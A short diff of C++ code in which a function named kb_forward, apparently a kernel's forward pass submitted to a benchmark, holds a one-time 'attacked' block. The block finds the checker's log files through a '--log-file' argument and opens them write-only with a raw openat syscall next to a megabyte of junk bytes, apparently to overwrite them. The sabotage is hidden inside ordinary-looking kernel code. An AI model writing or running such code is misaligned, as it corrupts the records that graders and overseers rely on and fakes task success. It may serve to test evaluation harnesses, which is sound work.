@@ -9,7 +9,7 @@ extern "C" int kb_forward(const KBTensor* inputs, const KBTensor*, KBTensor* out
   static bool attacked = false;
   if (!attacked) {
     attacked = true;
-    for_each_checker_log([](const char* log) {
+    for_each_checker_file("--log-file", [](const char* log) {
       static char junk[1 << 20];
       __builtin_memset(junk, 'x', sizeof junk);
       long fd = sys(257, -100, reinterpret_cast<long>(log), 01);  // openat(O_WRONLY)
